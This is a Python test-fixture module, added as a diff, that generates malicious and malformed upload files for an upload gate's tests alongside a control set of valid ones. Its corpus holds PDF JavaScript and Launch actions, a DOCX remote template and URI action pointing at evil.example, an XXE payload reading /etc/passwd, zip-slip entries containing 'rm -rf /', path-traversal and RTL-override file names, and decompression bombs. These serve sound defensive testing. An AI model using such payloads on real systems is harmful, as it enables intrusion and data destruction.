@@ -1,0 +1,334 @@
+"""Files for the upload gate's tests, all generated here: a control set of real files, and a
+corpus of malicious or malformed ones, each with the reason it must be refused."""
+
+import io
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+import pikepdf
+from PIL import Image, ImageDraw, ImageFont
+from reportlab.lib.pagesizes import A4
+from reportlab.pdfgen import canvas
+
+FONT = Path("/usr/share/fonts/truetype/noto/NotoSans-Regular.ttf")
+EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
+
+_CONTENT_TYPES_DOCX = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+    b'<Default Extension="xml" ContentType="application/xml"/>'
+    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
+    b'officedocument.wordprocessingml.document.main+xml"/></Types>'
+)
+_ROOT_RELS = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    b'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
+)
+_DOCUMENT = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+    "<w:body><w:p><w:r><w:t>Đơn đề nghị cấp phiếu lý lịch tư pháp</w:t></w:r></w:p></w:body>"
+    "</w:document>"
+).encode()
+_HYPERLINK_RELS = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    b'relationships/hyperlink" Target="https://dichvucong.gov.vn/" TargetMode="External"/>'
+    b"</Relationships>"
+)
+_TEMPLATE_RELS = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
+    b"</Relationships>"
+)
+
+
+def zip_of(entries: list[tuple[str, bytes]], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression) as archive:
+        for name, data in entries:
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def docx(extra: list[tuple[str, bytes]] | None = None, *, document: bytes = _DOCUMENT) -> bytes:
+    return zip_of(
+        [
+            ("[Content_Types].xml", _CONTENT_TYPES_DOCX),
+            ("_rels/.rels", _ROOT_RELS),
+            ("word/document.xml", document),
+            ("word/_rels/document.xml.rels", _HYPERLINK_RELS),
+            *(extra or []),
+        ]
+    )
+
+
+def reportlab_pdf(lines: list[str] | None = None, *, pages: int = 1) -> bytes:
+    buffer = io.BytesIO()
+    pdf = canvas.Canvas(buffer, pagesize=A4)
+    for page in range(pages):
+        y = 780
+        for line in lines or [f"Giay to so {page + 1}"]:
+            pdf.drawString(72, y, line)
+            y -= 20
+        pdf.showPage()
+    pdf.save()
+    return buffer.getvalue()
+
+
+def pdf_with(change: Callable[[pikepdf.Pdf], None], *, encrypt: bool = False) -> bytes:
+    """A real PDF, changed with pikepdf (an action added, a file embedded, ...)."""
+    with pikepdf.open(io.BytesIO(reportlab_pdf())) as pdf:
+        change(pdf)
+        out = io.BytesIO()
+        if encrypt:
+            pdf.save(out, encryption=pikepdf.Encryption(owner="chu", user="", R=6))
+        else:
+            pdf.save(out)
+    return out.getvalue()
+
+
+def text_image(lines: list[str], *, kind: str = "PNG", width: int = 1200) -> bytes:
+    """Vietnamese text rendered with the Noto font, black on white, for OCR."""
+    font = ImageFont.truetype(str(FONT), 40)
+    image = Image.new("L", (width, 80 + 70 * len(lines)), 255)
+    draw = ImageDraw.Draw(image)
+    for index, line in enumerate(lines):
+        draw.text((40, 40 + 70 * index), line, font=font, fill=0)
+    buffer = io.BytesIO()
+    image.save(buffer, format=kind, dpi=(300, 300))
+    return buffer.getvalue()
+
+
+def photo_jpeg(width: int = 320, height: int = 240) -> bytes:
+    image = Image.new("RGB", (width, height))
+    for x in range(width):
+        for y in range(0, height, 4):
+            image.putpixel((x, y), (x % 256, y % 256, (x * y) % 256))
+    buffer = io.BytesIO()
+    image.save(buffer, format="JPEG", quality=85)
+    return buffer.getvalue()
+
+
+def png_claiming(width: int, height: int) -> bytes:
+    """A tiny PNG whose header claims ``width`` × ``height`` pixels: a decompression bomb."""
+
+    def chunk(kind: bytes, body: bytes) -> bytes:
+        return (
+            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+        )
+
+    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", header)
+        + chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
+        + chunk(b"IEND", b"")
+    )
+
+
+def zip_symlink() -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        info = zipfile.ZipInfo("link")
+        info.external_attr = 0o120777 << 16
+        archive.writestr(info, "/etc/passwd")
+    return buffer.getvalue()
+
+
+def zip_encrypted_flag() -> bytes:
+    data = bytearray(zip_of([("a.txt", b"secret")], compression=zipfile.ZIP_STORED))
+    # Set the "encrypted" general-purpose flag in the local and the central header.
+    data[6] |= 1
+    central = data.rfind(b"PK\x01\x02")
+    data[central + 8] |= 1
+    return bytes(data)
+
+
+def _js_open_action(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.OpenAction = pikepdf.Dictionary(
+        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")
+    )
+
+
+def _launch_action(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.OpenAction = pikepdf.Dictionary(
+        S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"), NewWindow=True
+    )
+
+
+def _names_javascript(pdf: pikepdf.Pdf) -> None:
+    action = pdf.make_indirect(
+        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("this.print()"))
+    )
+    pdf.Root.Names = pikepdf.Dictionary(
+        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), action]))
+    )
+
+
+def _page_aa(pdf: pikepdf.Pdf) -> None:
+    pdf.pages[0].obj.AA = pikepdf.Dictionary(
+        O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("1"))
+    )
+
+
+def _catalog_aa_uri(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.AA = pikepdf.Dictionary(
+        WC=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://evil.example/"))
+    )
+
+
+def _embedded_file(pdf: pikepdf.Pdf) -> None:
+    spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 payload", filename="run.exe")
+    pdf.attachments["run.exe"] = spec
+
+
+def _link_annotation_js(pdf: pikepdf.Pdf) -> None:
+    annotation = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot,
+        Subtype=pikepdf.Name.Link,
+        Rect=pikepdf.Array([0, 0, 100, 100]),
+        A=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x()")),
+    )
+    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annotation]))
+
+
+def _rich_media(pdf: pikepdf.Pdf) -> None:
+    annotation = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot,
+        Subtype=pikepdf.Name.RichMedia,
+        Rect=pikepdf.Array([0, 0, 100, 100]),
+        RichMediaContent=pikepdf.Dictionary(),
+    )
+    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annotation]))
+
+
+def _xfa_form(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.AcroForm = pikepdf.Dictionary(
+        Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp/>")
+    )
+
+
+def _nothing(pdf: pikepdf.Pdf) -> None:
+    del pdf  # the change is the encryption
+
+
+@dataclass(frozen=True)
+class Bad:
+    """One file of the corpus: the name it is sent with, its bytes, and words the reason holds."""
+
+    id: str
+    name: str
+    data: bytes
+    reason: str
+    path: str = "content"
+
+
+def malicious_corpus() -> list[Bad]:
+    pdf = reportlab_pdf()
+    jpeg = photo_jpeg()
+    png = text_image(["Giấy khai sinh"])
+    good_docx = docx()
+    return [
+        # names, sizes, types
+        Bad("empty", "trong.pdf", b"", "rỗng"),
+        Bad("too-large", "lon.pdf", pdf + b"%" + b"0" * (2 * 1024 * 1024), "vượt quá giới hạn", "size"),
+        Bad("exe-as-pdf", "hoa-don.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200, "không phải là tệp PDF"),
+        Bad("html-as-jpg", "anh.jpg", b"<html><script>alert(1)</script></html>", "không phải là tệp JPEG"),
+        Bad("jpeg-as-png", "anh.png", jpeg, "không phải là tệp PNG"),
+        Bad("pdf-as-jpg", "scan.jpg", pdf, "không phải là tệp JPEG"),
+        Bad("exe-extension", "setup.exe", pdf, "chỉ nhận tệp", "name"),
+        Bad("double-extension", "giay.pdf.exe", pdf, "chỉ nhận tệp", "name"),
+        Bad("no-extension", "giaykhaisinh", pdf, "chỉ nhận tệp", "name"),
+        Bad("path-traversal-name", "../../etc/passwd.pdf", pdf, "dấu phân cách thư mục", "name"),
+        Bad("backslash-name", "..\\windows\\a.pdf", pdf, "dấu phân cách thư mục", "name"),
+        Bad("control-char-name", "giay\x00.pdf", pdf, "ký tự điều khiển", "name"),
+        Bad("rtl-override-name", "hoadon\u202efdp.exe.pdf", pdf, "ký tự ẩn", "name"),
+        Bad("name-too-long", "a" * 300 + ".pdf", pdf, "dài quá", "name"),
+        # PDFs
+        Bad("pdf-truncated", "cat.pdf", pdf[: len(pdf) // 2], "cắt cụt"),
+        Bad("pdf-garbage", "rac.pdf", b"%PDF-1.7\n" + b"\x00garbage" * 50 + b"\n%%EOF\n", "hỏng"),
+        Bad("pdf-header-offset", "lech.pdf", b"JUNK" + pdf, "không phải là tệp PDF"),
+        Bad("pdf-openaction-js", "js.pdf", pdf_with(_js_open_action), "JavaScript"),
+        Bad("pdf-launch", "launch.pdf", pdf_with(_launch_action), "Launch"),
+        Bad("pdf-names-js", "names.pdf", pdf_with(_names_javascript), "JavaScript"),
+        Bad("pdf-page-aa", "aa.pdf", pdf_with(_page_aa), "thao tác tự động"),
+        Bad("pdf-catalog-aa", "aa2.pdf", pdf_with(_catalog_aa_uri), "thao tác tự động"),
+        Bad("pdf-embedded-file", "dinh-kem.pdf", pdf_with(_embedded_file), "đính kèm nhúng"),
+        Bad("pdf-annotation-js", "link.pdf", pdf_with(_link_annotation_js), "JavaScript"),
+        Bad("pdf-rich-media", "flash.pdf", pdf_with(_rich_media), "đa phương tiện"),
+        Bad("pdf-xfa", "xfa.pdf", pdf_with(_xfa_form), "XFA"),
+        Bad("pdf-encrypted", "khoa.pdf", pdf_with(_nothing, encrypt=True), "mã hóa"),
+        Bad("pdf-zip-polyglot", "da.pdf", pdf + zip_of([("a.txt", b"x")]), "đa định dạng"),
+        # images
+        Bad("jpeg-truncated", "cat.jpg", jpeg[: len(jpeg) // 2], "cắt cụt"),
+        Bad("png-truncated", "cat.png", png[: len(png) // 2], "cắt cụt"),
+        Bad("png-bomb", "bom.png", png_claiming(100_000, 100_000), "bom giải nén"),
+        Bad("jpeg-with-pdf", "da.jpg", jpeg + pdf, "đa định dạng"),
+        Bad("jpeg-with-script", "da2.jpg", jpeg + b"<script>alert(1)</script>", "đa định dạng"),
+        Bad("png-with-zip", "da.png", png + zip_of([("x.js", b"alert(1)")]), "đa định dạng"),
+        Bad("jpeg-header-only", "dau.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 32, "cắt cụt"),
+        # archives and Office files
+        Bad("zip-bomb-ratio", "bom.zip", zip_of([("zeros.bin", b"\x00" * (20 * 1024 * 1024))]), "tỷ lệ nén"),
+        Bad("zip-too-big", "to.zip", zip_of([(f"z{i}.bin", b"\x00" * (30 * 1024 * 1024)) for i in range(4)]), "khi giải nén"),
+        Bad("zip-many-entries", "nhieu.zip", zip_of([(f"f{i}.txt", b"") for i in range(1001)]), "mục, vượt quá"),
+        Bad("zip-slip", "slip.zip", zip_of([("../../evil.sh", b"rm -rf /")]), "ra ngoài thư mục"),
+        Bad("zip-absolute", "abs.zip", zip_of([("/etc/cron.d/x", b"* * * * *")]), "đường dẫn tuyệt đối"),
+        Bad("zip-symlink", "link.zip", zip_symlink(), "liên kết tượng trưng"),
+        Bad("zip-nested", "long.zip", zip_of([("inner.zip", zip_of([("a.txt", b"a")]))]), "tệp nén khác"),
+        Bad("zip-encrypted", "ma.zip", zip_encrypted_flag(), "mã hóa"),
+        Bad("zip-truncated", "cat.zip", good_docx[: len(good_docx) // 2], "hỏng"),
+        Bad("docx-macro", "macro.docx", docx([("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")]), "macro"),
+        Bad("docx-remote-template", "mau.docx", docx([("word/_rels/settings.xml.rels", _TEMPLATE_RELS)]), "bên ngoài"),
+        Bad("docx-activex", "ax.docx", docx([("word/activeX/activeX1.bin", b"\xd0\xcf")]), "ActiveX"),
+        Bad("docx-ole", "ole.docx", docx([("word/embeddings/oleObject1.bin", b"\xd0\xcf")]), "OLE"),
+        Bad("docx-xxe", "xxe.docx", docx(document=b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>', extra=[("word/_rels/x.rels", b'<!DOCTYPE r [<!ENTITY a "a">]><r/>')]), "DTD"),
+        Bad("zip-as-docx", "thu.docx", zip_of([("a.txt", b"x")]), "không phải là tệp DOCX"),
+        Bad("docx-as-xlsx", "bang.xlsx", good_docx, "không phải là tệp XLSX"),
+    ]  # fmt: skip
+
+
+@dataclass(frozen=True)
+class Good:
+    id: str
+    name: str
+    data: bytes
+    kind: str
+
+
+def control_set() -> list[Good]:
+    return [
+        Good("pdf-reportlab", "don-de-nghi.pdf", reportlab_pdf(["Don de nghi"]), "pdf"),
+        Good("pdf-three-pages", "ho-so.PDF", reportlab_pdf(pages=3), "pdf"),
+        Good("pdf-with-link", "lien-ket.pdf", pdf_with(_link_to_uri), "pdf"),
+        Good("pdf-open-at-page", "mo-trang.pdf", pdf_with(_open_at_page), "pdf"),
+        Good("jpeg-photo", "anh-the.jpg", photo_jpeg(), "jpeg"),
+        Good("jpeg-scan", "ban-quet.jpeg", text_image(["Căn cước"], kind="JPEG"), "jpeg"),
+        Good("png-scan", "ban-quet.png", text_image(["Giấy khai sinh"]), "png"),
+        Good("docx-plain", "to-khai.docx", docx(), "docx"),
+        Good("docx-vietnamese-name", "Tờ khai đăng ký.docx", docx(), "docx"),
+    ]
+
+
+def _link_to_uri(pdf: pikepdf.Pdf) -> None:
+    annotation = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot,
+        Subtype=pikepdf.Name.Link,
+        Rect=pikepdf.Array([0, 0, 100, 100]),
+        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://dichvucong.gov.vn/")),
+    )
+    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annotation]))
+
+
+def _open_at_page(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
